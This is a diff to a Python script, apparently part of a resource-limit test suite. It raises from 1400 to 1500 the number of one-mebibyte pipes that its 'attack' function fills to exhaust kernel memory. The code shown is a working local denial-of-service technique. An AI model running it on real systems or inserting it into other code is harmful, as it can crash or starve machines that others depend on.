@@ -1,4 +1,4 @@
-"""Fills 1400 pipes of a mebibyte each, which is memory of the kernel's."""
+"""Fills 1500 pipes of a mebibyte each, which is memory of the kernel's."""
 
 import contextlib
 import fcntl
@@ -15,7 +15,7 @@ def attack(A):
         hard = max(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 4096)
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     block, pipes = (1 << 20) * b"A", []
-    for _ in range(1400):
+    for _ in range(1500):
         pipes += os.pipe()
         fcntl.fcntl(pipes[-1], fcntl.F_SETPIPE_SZ, 1 << 20)
         os.set_blocking(pipes[-1], False)
